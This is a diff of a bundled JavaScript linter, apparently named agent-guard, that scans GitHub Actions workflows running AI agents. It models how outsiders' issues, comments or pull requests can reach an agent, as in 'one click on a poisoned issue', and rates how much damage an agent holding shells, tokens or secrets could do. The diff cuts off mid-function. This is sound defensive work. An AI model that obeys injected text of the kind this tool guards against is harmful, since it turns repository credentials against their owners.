-function firstParagraph(md2) {
-  for (const p of md2.replace(/\r\n/g, "\n").split(/\n[ \t]*\n/)) {
-    const t = p.trim();
-    if (t === "" || t.startsWith("#") || t.startsWith("```")) continue;
-    return t.replace(/\s*\n\s*/g, " ");
-  }
-  return "";
-}
-function sarifResult(f, ruleIndex, fingerprint, root) {
-  const r = {
-    ruleId: f.rule,
-    ruleIndex,
-    level: sarifLevel(f.severity),
-    message: { text: resultMessage(f) },
-    locations: [{ physicalLocation: physicalLocation(f.file, f, root) }],
-    partialFingerprints: { [FINGERPRINT_KEY]: fingerprint }
-  };
-  if (f.related?.length) {
-    r.relatedLocations = f.related.map((h, id) => ({ id, physicalLocation: physicalLocation(h.file, h, root), message: { text: h.note } }));
-  }
-  if (f.path.length > 0) {
-    r.codeFlows = [
-      {
-        threadFlows: [
-          {
-            locations: f.path.map((h) => ({
-              location: { physicalLocation: physicalLocation(h.file, h, root), message: { text: h.note } }
-            }))
-          }
-        ]
-      }
-    ];
-  }
-  const props = {
-    severity: f.severity,
-    confidence: f.confidence,
-    capabilities: [...f.capabilities]
-  };
-  if (f.job !== void 0) props.job = f.job;
-  if (f.step !== void 0) props.step = f.step;
-  r.properties = props;
-  return r;
-}
-function resultMessage(f) {
-  const parts = [f.message.trim()];
-  if (f.capabilities.length > 0) parts.push(`The agent holds: ${f.capabilities.join(", ")}.`);
-  if (f.fix.trim() !== "") parts.push(`Fix: ${f.fix.trim()}`);
-  return parts.join("\n\n");
-}
-function physicalLocation(file, span, root) {
-  const loc2 = { artifactLocation: artifactLocation(file, root) };
-  const region = sarifRegion(span);
-  if (region) loc2.region = region;
-  return loc2;
-}
-function sarifRegion(s) {
-  if (!(s.line >= 1)) return void 0;
-  const region = { startLine: s.line };
-  const hasCol = s.column >= 1;
-  if (hasCol) region.startColumn = s.column;
-  const endLine = s.endLine !== void 0 && s.endLine >= s.line ? s.endLine : void 0;
-  if (endLine !== void 0) region.endLine = endLine;
-  if (s.endColumn !== void 0 && s.endColumn >= 1 && hasCol) {
-    if ((endLine ?? s.line) > s.line || s.endColumn > s.column) {
-      if (endLine === void 0) region.endLine = s.line;
-      region.endColumn = s.endColumn;
-    }
-  }
-  return region;
-}
-function artifactLocation(file, root) {
-  const rel = repoPath(file, root);
-  if (rel.startsWith("/")) return { uri: `file://${encodePath(rel, false)}` };
-  if (/^[A-Za-z]:\//.test(rel)) return { uri: `file:///${rel.slice(0, 2)}${encodePath(rel.slice(2), false)}` };
-  return { uri: encodePath(rel, true), uriBaseId: SRCROOT };
-}
-function encodePath(p, relative3) {
-  return p.split("/").map((seg, i) => {
-    let e = encodeURI(seg).replace(/\?/g, "%3F").replace(/#/g, "%23");
-    if (relative3 && i === 0) e = e.replace(/:/g, "%3A");
-    return e;
-  }).join("/");
-}
-function dirUri(root) {
-  const href = (0, import_url.pathToFileURL)(path2.resolve(root)).href;
-  return href.endsWith("/") ? href : `${href}/`;
-}
-function notification(e, root) {
-  return {
-    level: "error",
-    message: { text: e.message },
-    locations: [{ physicalLocation: physicalLocation(e.file, e, root) }]
-  };
-}
-function messageWithoutLines(message) {
-  return message.replace(/\b(lines?|ln|columns?|cols?)(\s*)\d+(?:\s*[-–,]\s*\d+)*/gi, "$1$2#").replace(/\bL\d+(?:-L?\d+)?\b/g, "L#").replace(/(\.[A-Za-z0-9]+):\d+(?::\d+)?/g, "$1:#").replace(/\s+/g, " ").trim();
-}
-function findingFingerprintBase(f, root) {
-  const parts = [FINGERPRINT_KEY, f.rule, repoPath(f.file, root), f.job ?? "", f.step ?? "", messageWithoutLines(f.message)];
-  return (0, import_crypto.createHash)("sha256").update(parts.join("\0")).digest("hex").slice(0, 32);
-}
-function computeFingerprints(findings, root) {
-  const seen = /* @__PURE__ */ new Map();
-  return findings.map((f) => {
-    const base = findingFingerprintBase(f, root);
-    const n = (seen.get(base) ?? 0) + 1;
-    seen.set(base, n);
-    return `${base}:${n}`;
-  });
-}
-
-// src/baseline.ts
-var BASELINE_VERSION = 1;
-var BaselineError = class extends ConfigError {
-};
-function baselineRoot(cwd) {
-  let dir = import_node_path.default.resolve(cwd);
-  for (; ; ) {
-    if (import_node_fs2.default.existsSync(import_node_path.default.join(dir, ".git"))) return dir;
-    const parent = import_node_path.default.dirname(dir);
-    if (parent === dir) return import_node_path.default.resolve(cwd);
-    dir = parent;
-  }
-}
-function relativeFile(file, cwd, root) {
-  const rel = import_node_path.default.relative(root, import_node_path.default.resolve(cwd, file));
-  return rel.split(import_node_path.default.sep).join("/");
-}
-function entryKey(f, cwd, root) {
-  const file = relativeFile(f.file, cwd, root);
-  const job = f.job ?? null;
-  const step = f.step ?? null;
-  const fingerprint = (0, import_node_crypto.createHash)("sha256").update(["agent-guard-baseline/v1", f.rule, file, job ?? "", step ?? "", messageWithoutLines(f.message)].join("\0")).digest("hex").slice(0, 32);
-  return { rule: f.rule, file, job, step, fingerprint };
-}
-function cmp(a, b) {
-  return a < b ? -1 : a > b ? 1 : 0;
-}
-function createBaseline(findings, cwd, root = baselineRoot(cwd)) {
-  const byPrint = /* @__PURE__ */ new Map();
-  for (const f of findings) {
-    const key2 = entryKey(f, cwd, root);
-    const seen = byPrint.get(key2.fingerprint);
-    if (seen) seen.count++;
-    else byPrint.set(key2.fingerprint, { ...key2, count: 1 });
-  }
-  const entries = [...byPrint.values()].sort(
-    (a, b) => cmp(a.file, b.file) || cmp(a.job ?? "", b.job ?? "") || cmp(a.step ?? "", b.step ?? "") || cmp(a.rule, b.rule) || cmp(a.fingerprint, b.fingerprint)
-  );
-  return { version: BASELINE_VERSION, findings: entries };
-}
-function formatBaseline(baseline) {
-  const lines = baseline.findings.map(
-    (e) => `    ${JSON.stringify({ rule: e.rule, file: e.file, job: e.job, step: e.step, fingerprint: e.fingerprint, count: e.count })}`
-  );
-  return `{
-  "version": ${baseline.version},
-  "findings": [${lines.length ? `
-${lines.join(",\n")}
-  ` : ""}]
-}
-`;
-}
-function writeBaseline(file, baseline) {
-  try {
-    import_node_fs2.default.mkdirSync(import_node_path.default.dirname(import_node_path.default.resolve(file)), { recursive: true });
-    import_node_fs2.default.writeFileSync(file, formatBaseline(baseline));
-  } catch (err) {
-    throw new BaselineError(`${file}: cannot write baseline: ${err.code ?? err.message}`);
-  }
-}
-function readBaseline(file) {
-  let text;
-  try {
-    text = import_node_fs2.default.readFileSync(file, "utf8");
-  } catch (err) {
-    throw new BaselineError(`${file}: cannot read baseline: ${err.code ?? "error"}`);
-  }
-  return parseBaseline(file, text);
-}
-function jsonErrorOffset(text) {
-  let i = 0;
-  const ws = () => {
-    while (i < text.length && " 	\n\r".includes(text[i])) i++;
-  };
-  const fail2 = () => {
-    throw i;
-  };
-  const literal = (word) => {
-    for (const ch of word) if (text[i++] !== ch) i--, fail2();
-  };
-  const string = () => {
-    i++;
-    while (i < text.length && text[i] !== '"') {
-      const c = text.charCodeAt(i);
-      if (c < 32) fail2();
-      if (text[i] === "\\") {
-        i++;
-        if (text[i] === "u") {
-          if (!/^[0-9a-fA-F]{4}$/.test(text.slice(i + 1, i + 5))) fail2();
-          i += 4;
-        } else if (!'"\\/bfnrt'.includes(text[i] ?? "x")) fail2();
-      }
-      i++;
-    }
-    if (text[i] !== '"') fail2();
-    i++;
-  };
-  const number = () => {
-    const m = /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?/.exec(text.slice(i));
-    if (!m || m[0] === "" || m[0] === "-") fail2();
-    i += m[0].length;
-  };
-  const value = () => {
-    ws();
-    const c = text[i];
-    if (c === "{") {
-      i++;
-      ws();
-      if (text[i] === "}") return void i++;
-      for (; ; ) {
-        ws();
-        if (text[i] !== '"') fail2();
-        string();
-        ws();
-        if (text[i] !== ":") fail2();
-        i++;
-        value();
-        ws();
-        if (text[i] === ",") i++;
-        else if (text[i] === "}") return void i++;
-        else fail2();
-      }
-    }
-    if (c === "[") {
-      i++;
-      ws();
-      if (text[i] === "]") return void i++;
-      for (; ; ) {
-        value();
-        ws();
-        if (text[i] === ",") i++;
-        else if (text[i] === "]") return void i++;
-        else fail2();
-      }
-    }
-    if (c === '"') return string();
-    if (c === "t") return literal("true");
-    if (c === "f") return literal("false");
-    if (c === "n") return literal("null");
-    return number();
-  };
-  try {
-    value();
-    ws();
-    if (i < text.length) fail2();
-  } catch (at) {
-    if (typeof at === "number") return at;
-    throw at;
-  }
-  return text.length;
-}
-function lineColumn(text, offset) {
-  const before = text.slice(0, offset);
-  const line = before.split("\n").length;
-  const column = before.length - before.lastIndexOf("\n");
-  return `:${line}:${column}`;
-}
-function parseBaseline(file, text) {
-  let data;
-  try {
-    data = JSON.parse(text);
-  } catch (err) {
-    const message = err.message.split("\n")[0].replace(/, "[^]*" is not valid JSON$/, "");
-    throw new BaselineError(`${file}${lineColumn(text, jsonErrorOffset(text))}: baseline is not valid JSON: ${message}`);
-  }
-  const bad = (what) => {
-    throw new BaselineError(`${file}: not an agent-guard baseline: ${what}`);
-  };
-  if (data === null || typeof data !== "object" || Array.isArray(data)) bad("expected a JSON object");
-  const top = data;
-  if (top.version !== BASELINE_VERSION) bad(`"version" must be ${BASELINE_VERSION}`);
-  for (const key2 of Object.keys(top)) if (key2 !== "version" && key2 !== "findings") bad(`unknown key "${key2}"`);
-  if (!Array.isArray(top.findings)) bad('"findings" must be an array');
-  const findings = top.findings.map((item, i) => {
-    const where = `findings[${i}]`;
-    if (item === null || typeof item !== "object" || Array.isArray(item)) return bad(`${where} must be an object`);
-    const e = item;
-    for (const key2 of Object.keys(e)) {
-      if (!["rule", "file", "job", "step", "fingerprint", "count"].includes(key2)) bad(`${where} has unknown key "${key2}"`);
-    }
-    for (const key2 of ["rule", "file", "fingerprint"]) if (typeof e[key2] !== "string" || e[key2] === "") bad(`${where}.${key2} must be a non-empty string`);
-    for (const key2 of ["job", "step"]) if (e[key2] !== null && typeof e[key2] !== "string") bad(`${where}.${key2} must be a string or null`);
-    if (!Number.isInteger(e.count) || e.count < 1) bad(`${where}.count must be a whole number >= 1`);
-    return { rule: e.rule, file: e.file, job: e.job, step: e.step, fingerprint: e.fingerprint, count: e.count };
-  });
-  return { version: BASELINE_VERSION, findings };
-}
-function applyBaseline(findings, baseline, cwd, root = baselineRoot(cwd)) {
-  const left = /* @__PURE__ */ new Map();
-  for (const e of baseline.findings) {
-    const id = [e.fingerprint, e.rule, e.file, e.job ?? "", e.step ?? ""].join("\0");
-    const seen = left.get(id);
-    if (seen) seen.count += e.count;
-    else left.set(id, { entry: e, count: e.count });
-  }
-  const fresh = [];
-  const known = [];
-  for (const f of sortFindings(findings)) {
-    const k = entryKey(f, cwd, root);
-    const slot = left.get([k.fingerprint, k.rule, k.file, k.job ?? "", k.step ?? ""].join("\0"));
-    if (slot && slot.count > 0) {
-      slot.count--;
-      known.push(f);
-    } else {
-      fresh.push(f);
-    }
-  }
-  const gone = [...left.values()].filter((s) => s.count > 0).map((s) => ({ ...s.entry, count: s.count }));
-  return { fresh, known, gone };
-}
-function baselineNote(file, outcome) {
-  const known = outcome.known.length;
-  const gone = outcome.gone.reduce((n, e) => n + e.count, 0);
-  let line = `baseline ${file}: ${known} known finding${known === 1 ? "" : "s"} not reported`;
-  if (gone > 0) line += `, ${gone} baselined finding${gone === 1 ? "" : "s"} no longer found (fixed or changed; refresh with --write-baseline)`;
-  return line;
-}
-
-// src/lint.ts
-var import_node_fs4 = __toESM(require("node:fs"));
-var import_node_path3 = __toESM(require("node:path"));
 
 // src/workflow/model.ts
 function buildWorkflow(file, root) {
@@ -15285,8 +13656,1126 @@ function referencesOf(inner) {
   return refs;
 }
 
+// src/analysis/gates.ts
+var ANY = { k: "any" };
+var BOTH = { k: "bool", t: true, f: true };
+var TRUE = { k: "bool", t: true, f: false };
+var FALSE = { k: "bool", t: false, f: true };
+var OUTSIDER_ASSOCIATIONS = ["none", "contributor", "first_time_contributor", "first_timer", "mannequin"];
+var OBJECT_ROLES = {
+  issue: "issue",
+  comment: "comment",
+  pull_request: "pull_request",
+  review: "review",
+  discussion: "discussion",
+  workflow_run: "workflow_run",
+  head_commit: "commit"
+};
+function parseCondition(node) {
+  if (!node) return null;
+  const text = node.text.trim();
+  if (!text) return null;
+  const templates = findTemplates(text);
+  let source = text;
+  if (templates.length) {
+    if (templates.length !== 1 || templates[0].start !== 0 || templates[0].end !== text.length) return null;
+    source = templates[0].inner;
+  }
+  if (source.length > GITHUB_MAX_EXPRESSION_LENGTH) return null;
+  const parsed = tryParseExpression(source);
+  return parsed instanceof Error ? null : parsed;
+}
+function canPass(condition, scenario2) {
+  if (!condition) return true;
+  try {
+    return truthy(evaluate(condition, scenario2)).t;
+  } catch (err) {
+    if (err instanceof RangeError) return true;
+    throw err;
+  }
+}
+function truthy(v) {
+  switch (v.k) {
+    case "bool":
+      return v;
+    case "strs":
+      return { t: v.v.some((s) => s !== "" && s !== "false" && s !== "0"), f: v.v.some((s) => s === "" || s === "0") };
+    case "array":
+    case "login":
+    case "repo":
+    case "forkRepo":
+      return { t: true, f: false };
+    default:
+      return { t: true, f: true };
+  }
+}
+function evaluate(e, s) {
+  switch (e.kind) {
+    case "literal":
+      if (e.value === null) return { k: "strs", v: [""] };
+      if (typeof e.value === "boolean") return e.value ? TRUE : FALSE;
+      return { k: "strs", v: [String(e.value).toLowerCase()] };
+    case "unary": {
+      const t = truthy(evaluate(e.operand, s));
+      return { k: "bool", t: t.f, f: t.t };
+    }
+    case "binary":
+      return binary(e.op, e.left, e.right, s);
+    case "call":
+      return call(e.name, e.args, s);
+    default: {
+      const path14 = accessPath(e);
+      return path14 ? contextValue(path14, s) : ANY;
+    }
+  }
+}
+function binary(op, left, right, s) {
+  if (op === "&&") {
+    const l2 = truthy(evaluate(left, s));
+    const r2 = truthy(evaluate(right, s));
+    return { k: "bool", t: l2.t && r2.t, f: l2.f || r2.f };
+  }
+  if (op === "||") {
+    const l2 = truthy(evaluate(left, s));
+    const r2 = truthy(evaluate(right, s));
+    return { k: "bool", t: l2.t || r2.t, f: l2.f && r2.f };
+  }
+  const l = evaluate(left, s);
+  const r = evaluate(right, s);
+  if (op === "==") return equals(l, r, s);
+  if (op === "!=") {
+    const eq = equals(l, r, s);
+    return { k: "bool", t: eq.f, f: eq.t };
+  }
+  return BOTH;
+}
+function equals(a, b, s) {
+  if (a.k === "any" || b.k === "any") return BOTH;
+  if (b.k === "login" || b.k === "forkRepo" || b.k === "repo" && a.k !== "login" && a.k !== "forkRepo") [a, b] = [b, a];
+  if (a.k === "login") {
+    if (b.k === "strs") return { k: "bool", t: b.v.some((v) => isBotLogin(v) && !s?.trustedBots?.has(v)), f: true };
+    return BOTH;
+  }
+  if (a.k === "forkRepo") return b.k === "repo" ? FALSE : BOTH;
+  if (a.k === "repo") return b.k === "repo" ? TRUE : BOTH;
+  if (a.k === "strs" && b.k === "strs") {
+    const t = a.v.some((x) => b.v.includes(x));
+    const f = !(a.v.length === 1 && b.v.length === 1 && a.v[0] === b.v[0]);
+    return { k: "bool", t, f };
+  }
+  if (a.k === "bool" && b.k === "bool") return { k: "bool", t: a.t && b.t || a.f && b.f, f: a.t && b.f || a.f && b.t };
+  if (a.k === "bool" && b.k === "strs") return boolVsStrings(a, b.v);
+  if (b.k === "bool" && a.k === "strs") return boolVsStrings(b, a.v);
+  return BOTH;
+}
+function boolVsStrings(a, strs) {
+  const t = a.t && strs.includes("1") || a.f && strs.some((x) => x === "0" || x === "");
+  return { k: "bool", t, f: true };
+}
+function isBotLogin(login) {
+  return login.endsWith("[bot]");
+}
+function call(name, args, s) {
+  switch (name) {
+    case "success":
+    case "failure":
+    case "cancelled":
+      return BOTH;
+    case "always":
+      return TRUE;
+    case "fromjson": {
+      const arg = args[0] && evaluate(args[0], s);
+      if (arg?.k === "strs" && arg.v.length === 1) return fromJsonLiteral(arg.v[0]);
+      return ANY;
+    }
+    case "contains": {
+      if (args.length !== 2) return BOTH;
+      const hay = evaluate(args[0], s);
+      const needle = evaluate(args[1], s);
+      if (hay.k === "array") {
+        const results = hay.items.map((item) => equals(item, needle, s));
+        return { k: "bool", t: results.some((r) => r.t), f: results.every((r) => r.f) };
+      }
+      if (hay.k === "strs" && needle.k === "strs") {
+        const t = hay.v.some((h) => needle.v.some((n) => h.includes(n)));
+        const f = hay.v.some((h) => needle.v.some((n) => !h.includes(n)));
+        return { k: "bool", t, f };
+      }
+      return BOTH;
+    }
+    case "startswith":
+    case "endswith": {
+      const a = args[0] && evaluate(args[0], s);
+      const b = args[1] && evaluate(args[1], s);
+      if (a?.k === "strs" && b?.k === "strs") {
+        const test = (x, y) => name === "startswith" ? x.startsWith(y) : x.endsWith(y);
+        return { k: "bool", t: a.v.some((x) => b.v.some((y) => test(x, y))), f: a.v.some((x) => b.v.some((y) => !test(x, y))) };
+      }
+      return BOTH;
+    }
+    default:
+      return ANY;
+  }
+}
+function fromJsonLiteral(text) {
+  try {
+    return jsonToValue(JSON.parse(text));
+  } catch {
+    return ANY;
+  }
+}
+function jsonToValue(v) {
+  if (Array.isArray(v)) return { k: "array", items: v.map(jsonToValue) };
+  if (typeof v === "boolean") return v ? TRUE : FALSE;
+  if (v === null) return { k: "strs", v: [""] };
+  if (typeof v === "string" || typeof v === "number") return { k: "strs", v: [String(v).toLowerCase()] };
+  return ANY;
+}
+function contextValue(path14, s) {
+  const attacked = (role) => s.attacker.has(role);
+  switch (path14) {
+    case "github.event_name":
+      return { k: "strs", v: [s.event] };
+    case "github.event.action":
+      return s.actions.allowed ? { k: "strs", v: s.actions.allowed } : ANY;
+    case "github.actor":
+    case "github.triggering_actor":
+    case "github.event.sender.login":
+      return attacked("actor") ? { k: "login" } : ANY;
+    case "github.repository":
+      return { k: "repo" };
+    case "github.event.label.name":
+      return attacked("actor") ? { k: "strs", v: [""] } : ANY;
+    case "github.event.pull_request.head.repo.fork":
+      return attacked("pull_request") ? TRUE : ANY;
+    case "github.event.pull_request.head.repo.full_name":
+    case "github.event.pull_request.head.label":
+      return attacked("pull_request") ? { k: "forkRepo" } : ANY;
+    case "github.event.workflow_run.head_repository.full_name":
+      return attacked("workflow_run") ? { k: "forkRepo" } : ANY;
+    case "github.event.workflow_run.head_repository.fork":
+      return attacked("workflow_run") ? TRUE : ANY;
+    case "github.event.workflow_run.actor.login":
+    case "github.event.workflow_run.triggering_actor.login":
+      return attacked("workflow_run") ? { k: "login" } : ANY;
+    case "github.event.head_commit.author.name":
+    case "github.event.head_commit.author.username":
+    case "github.event.head_commit.committer.username":
+      return attacked("commit") ? { k: "login" } : ANY;
+  }
+  const parts = path14.split(".");
+  if (parts[0] === "github" && parts[1] === "event" && parts.length >= 4) {
+    const role = OBJECT_ROLES[parts[2]];
+    const rest = parts.slice(3).join(".");
+    if (role) {
+      if (rest === "author_association") return attacked(role) ? { k: "strs", v: OUTSIDER_ASSOCIATIONS } : ANY;
+      if (rest === "user.login" || rest === "head.user.login" || rest === "head.repo.owner.login") {
+        return attacked(role) ? { k: "login" } : ANY;
+      }
+    }
+  }
+  if (parts[0] === "steps" && parts.length >= 3 && s.permissionSteps.has(parts[1]) && attacked("actor")) {
+    return NOT_PERMITTED;
+  }
+  if (parts[0] === "needs" && parts.length >= 3 && s.permissionJobs.has(parts[1]) && attacked("actor")) {
+    return NOT_PERMITTED;
+  }
+  return ANY;
+}
+var NOT_PERMITTED = { k: "strs", v: ["", "false", "none", "read", "triage", "failure", "skipped"] };
+
+// src/analysis/triggers.ts
+var ACTOR_ROLES = {
+  issues: ["issue"],
+  issue_comment: ["comment"],
+  discussion: ["discussion"],
+  discussion_comment: ["comment"],
+  pull_request: ["pull_request", "commit"],
+  pull_request_target: ["pull_request", "commit"],
+  pull_request_review: ["review"],
+  pull_request_review_comment: ["comment"],
+  workflow_run: ["workflow_run", "commit"],
+  repository_dispatch: ["payload"],
+  push: ["commit"]
+};
+function triggerRuleFor(rules, event) {
+  return rules.find((r) => r.event === event);
+}
+function classifyTriggers(workflow, rules, byName) {
+  return workflow.triggers.map((trigger) => classify(trigger, workflow, rules, byName, /* @__PURE__ */ new Set()));
+}
+function classify(trigger, workflow, rules, byName, seen) {
+  const event = trigger.event.toLowerCase();
+  const rule = triggerRuleFor(rules, event);
+  const filter = trigger.types.map((t) => t.toLowerCase());
+  const maintainerOnly = (rule?.maintainerOnlyTypes ?? []).map((t) => t.toLowerCase());
+  const allActions = { allowed: filter.length ? filter : null, excluded: [] };
+  const outsiderTypes = filter.length ? filter.filter((t) => !maintainerOnly.includes(t)) : null;
+  const outsiderActions = outsiderTypes === null ? { allowed: null, excluded: maintainerOnly } : outsiderTypes.length ? { allowed: outsiderTypes, excluded: [] } : null;
+  const base = { event, trigger, workflow, allActions };
+  if (!rule) return { ...base, firing: "maintainers", outsiderActions: null, uncertain: `unknown event '${event}'` };
+  switch (rule.who) {
+    case "anyone":
+    case "anyone-unprivileged":
+      return { ...base, firing: outsiderActions ? rule.who : "maintainers", outsiderActions };
+    case "callers":
+      return { ...base, firing: "callers", outsiderActions };
+    case "maintainers":
+      return { ...base, firing: "maintainers", outsiderActions: null };
+    case "upstream":
+      return { ...base, ...upstreamFiring(trigger, workflow, rules, byName, seen), outsiderActions };
+  }
+}
+var upstreamMemo = /* @__PURE__ */ new WeakMap();
+function memoFor(byName) {
+  let memo = upstreamMemo.get(byName);
+  if (!memo) upstreamMemo.set(byName, memo = /* @__PURE__ */ new Map());
+  return memo;
+}
+function upstreamFiring(trigger, workflow, rules, byName, seen) {
+  const config = trigger.config;
+  const names = [];
+  if (config?.kind === "map") {
+    const list = config.pairs.find((p) => p.key.text === "workflows")?.value;
+    if (list?.kind === "seq") {
+      for (const i of list.items) if (i.kind === "scalar") names.push(i.text);
+    } else if (list?.kind === "scalar") {
+      names.push(list.text);
+    }
+  }
+  if (!names.length) return { firing: "anyone", uncertain: "workflow_run without a workflows list" };
+  seen.add(workflow);
+  let unresolved = 0;
+  for (const name of names) {
+    const known = memoFor(byName).get(name);
+    if (known === "outsiders") return { firing: "anyone" };
+    if (known === "maintainers") continue;
+    let outsiders = false;
+    let found = false;
+    for (const upstream of byName(name)) {
+      found = true;
+      if (seen.has(upstream)) continue;
+      const fired = upstream.triggers.map((t) => classify(t, upstream, rules, byName, seen));
+      if (fired.some((t) => t.firing === "anyone" || t.firing === "anyone-unprivileged")) {
+        outsiders = true;
+        break;
+      }
+    }
+    if (!found) {
+      unresolved++;
+      continue;
+    }
+    memoFor(byName).set(name, outsiders ? "outsiders" : "maintainers");
+    if (outsiders) return { firing: "anyone" };
+  }
+  if (unresolved) return { firing: "anyone", uncertain: `upstream workflow '${names.join("', '")}' not found in the repository` };
+  return { firing: "maintainers" };
+}
+
+// src/analysis/reach.ts
+var REACH_ORDER = { none: 0, "action-gated": 1, maintainer: 2, "outsider-unprivileged": 3, outsider: 4 };
+var THREAD_EVENTS = /* @__PURE__ */ new Set([
+  "issues",
+  "issue_comment",
+  "pull_request",
+  "pull_request_target",
+  "pull_request_review",
+  "pull_request_review_comment",
+  "discussion",
+  "discussion_comment"
+]);
+var TRIGGERING_ACTOR = { kind: "context", role: "actor", events: null, what: "the triggering actor" };
+function reachOf(origin, step, actorGate) {
+  let best = { level: "none", how: "no trigger lets an outsider reach it" };
+  const hard = hardGates(step);
+  for (const trigger of step.job.triggers) {
+    const event = trigger.event;
+    if (origin.events && !origin.events.includes(event)) continue;
+    if (origin.kind === "thread" && !THREAD_EVENTS.has(event)) continue;
+    const candidate = reachOnTrigger(origin, step, trigger, hard, actorGate);
+    if (REACH_ORDER[candidate.level] > REACH_ORDER[best.level]) best = candidate;
+    if (best.level === "outsider") break;
+  }
+  return best;
+}
+function reachOnTrigger(origin, step, trigger, hard, actorGate) {
+  const event = trigger.event;
+  const role = origin.role;
+  const actorRoles = ACTOR_ROLES[event] ?? [];
+  const who = trigger.firing;
+  const envNote = hard.environment ? `environment '${hard.environment}' may require a reviewer's approval` : void 0;
+  const uncertain = [trigger.uncertain, envNote].filter(Boolean).join("; ") || void 0;
+  const outsiderFires = (who === "anyone" || who === "anyone-unprivileged" || who === "callers") && trigger.outsiderActions && !origin.maintainerChosen;
+  let fallback = { level: "none", how: "gated", uncertain };
+  if (outsiderFires) {
+    const attacker = /* @__PURE__ */ new Set(["actor", ...actorRoles, role]);
+    const blockedBy = directBlocker(hard, actorGate, event);
+    if (passes(step, scenario(event, trigger.outsiderActions, attacker, hard, step))) {
+      const callers = who === "callers" ? "whoever calls this reusable workflow (callers unknown here)" : "any GitHub user";
+      if (!blockedBy) {
+        const level = who === "anyone-unprivileged" ? "outsider-unprivileged" : "outsider";
+        return { level, trigger, how: `${callers} can fire '${event}'${describeTypes(trigger.outsiderActions)}`, uncertain: who === "callers" ? "reusable workflow with no caller in this repository" : uncertain };
+      }
+      if (actorGate && blockedBy === actorGate.description) {
+        fallback = { level: "action-gated", trigger, how: `${callers} can fire '${event}'; only ${actorGate.description} stops outsiders`, uncertain };
+      }
+    }
+  }
+  if ((origin.kind === "fetch" || origin.kind === "thread") && !origin.maintainerChosen && (event === "schedule" || event === "workflow_run" || event === "push")) {
+    if (passes(step, scenario(event, trigger.allActions, /* @__PURE__ */ new Set([role]), hard, step))) {
+      return { level: "outsider", trigger, how: `'${event}' runs unattended over text outsiders wrote (issues, comments, pull requests)`, uncertain };
+    }
+  }
+  const indirectPossible = role !== "actor" && (!actorRoles.includes(role) || hasMaintainerActions(trigger) || origin.kind !== "context");
+  if (indirectPossible && passes(step, scenario(event, trigger.allActions, /* @__PURE__ */ new Set([role, ...role === "pull_request" ? ["commit"] : []]), hard, step))) {
+    const whose = origin.kind === "context" ? `the ${origin.role.replace("_", " ")} an outsider wrote` : "text outsiders wrote";
+    return { level: "maintainer", trigger, how: `only a maintainer's '${event}' starts it, but over ${whose} (one click on a poisoned issue is enough)`, uncertain };
+  }
+  return fallback;
+}
+function describeTypes(actions) {
+  return actions.allowed ? ` (${actions.allowed.join(", ")})` : "";
+}
+function hasMaintainerActions(trigger) {
+  const outsider = trigger.outsiderActions;
+  if (!outsider) return true;
+  const all = trigger.allActions.allowed;
+  if (!all) return outsider.excluded.length > 0;
+  return all.some((a) => !outsider.allowed || !outsider.allowed.includes(a));
+}
+function directBlocker(hard, actorGate, event) {
+  if (hard.blockingCheck) return hard.blockingCheck;
+  if (actorGate?.enforcedOn(event)) return actorGate.description;
+  return void 0;
+}
+function scenario(event, actions, attacker, hard, step) {
+  return { event, actions, attacker, permissionSteps: hard.permissionSteps, permissionJobs: hard.permissionJobs, trustedBots: step.job.trust.bots };
+}
+function passes(step, s) {
+  for (const c of step.job.conditions) if (!canPass(c.expr, s)) return false;
+  for (const c of step.conditions) if (!canPass(c.expr, s)) return false;
+  return true;
+}
+function hardGates(step) {
+  const job = step.job;
+  const gates = { permissionSteps: /* @__PURE__ */ new Set(), permissionJobs: /* @__PURE__ */ new Set() };
+  if (job.job.environment) gates.environment = job.job.environment.name;
+  for (const s of job.steps) {
+    if (s.position >= step.position) break;
+    const kind = permissionCheckKind(s);
+    if (!kind) continue;
+    if (s.step.id) gates.permissionSteps.add(s.step.id);
+    if (kind === "fails" && !s.step.continueOnError) gates.blockingCheck = `the permission check in step '${s.step.label}'`;
+  }
+  for (const needed of allNeeds(job.needs)) {
+    if (needed.steps.some((s) => permissionCheckKind(s))) {
+      gates.permissionJobs.add(needed.job.id);
+      if (needed.steps.some((s) => permissionCheckKind(s) === "fails")) gates.blockingCheck = `the permission check in job '${needed.job.id}'`;
+    }
+  }
+  return gates;
+}
+function allNeeds(needs) {
+  const out = /* @__PURE__ */ new Set();
+  const stack = [...needs];
+  while (stack.length) {
+    const j = stack.pop();
+    if (out.has(j)) continue;
+    out.add(j);
+    stack.push(...j.needs);
+  }
+  return [...out];
+}
+var PERMISSION_ACTIONS = /^(actions-cool\/check-user-permission|sushichop\/action-repository-permission|prince-chrismc\/check-actor-permissions-action|lannonbr\/repo-permission-check-action|xt0rted\/slash-command-action|TheModdingInquisition\/actions-team-membership|tspascoal\/get-user-teams-membership)@/i;
+var PERMISSION_API = /getCollaboratorPermissionLevel|collaborators\/[^/\s]+\/permission|\/permission\b|checkMembershipForUser|getMembershipForUserInOrg|orgs\/[^/\s]+\/members\/|teams\/[^/\s]+\/memberships/;
+var FAILS = /setFailed|process\.exit\(\s*1|\bexit\s+1\b|throw\s+new\s+Error|core\.setFailed/;
+function permissionCheckKind(s) {
+  const uses = s.step.uses?.text ?? "";
+  if (PERMISSION_ACTIONS.test(uses)) {
+    return /actions-cool\/check-user-permission|membership/i.test(uses) ? "reports" : "fails";
+  }
+  const code3 = /^actions\/github-script@/i.test(uses) ? inputOf(s.step.with, "script")?.text ?? "" : s.step.run?.text ?? "";
+  if (!code3 || !PERMISSION_API.test(code3)) return null;
+  return FAILS.test(code3) ? "fails" : "reports";
+}
+
+// src/analysis/severity.ts
+var POWERFUL_SCOPES = /* @__PURE__ */ new Set(["*", "contents", "actions", "packages", "workflows", "deployments", "pages"]);
+function holdingOf(c) {
+  if (c.jailed) return "nothing";
+  const exfil = c.tools.shell === "full" || c.tools.network;
+  const nonModelSecrets = c.secrets.some((s) => !s.modelKey);
+  const hasTools = c.tools.shell !== "none" || c.tools.network || c.tools.writesFiles;
+  const tokenInHand = c.tokens.length > 0 && hasTools;
+  const powerfulToken = c.writeScopes.some((s) => POWERFUL_SCOPES.has(s)) && (tokenInHand || c.persistedCredentials);
+  const publishPower = nonModelSecrets || c.tokens.some((t) => t.foreign) || powerfulToken || c.idToken || c.selfHosted || c.cloudCredentials.length > 0;
+  if (c.tools.shell === "full" && !c.selfHosted) return "worm";
+  if ((exfil || c.tools.shell === "restricted") && publishPower) return "worm";
+  const anyWrite = c.writeScopes.length > 0;
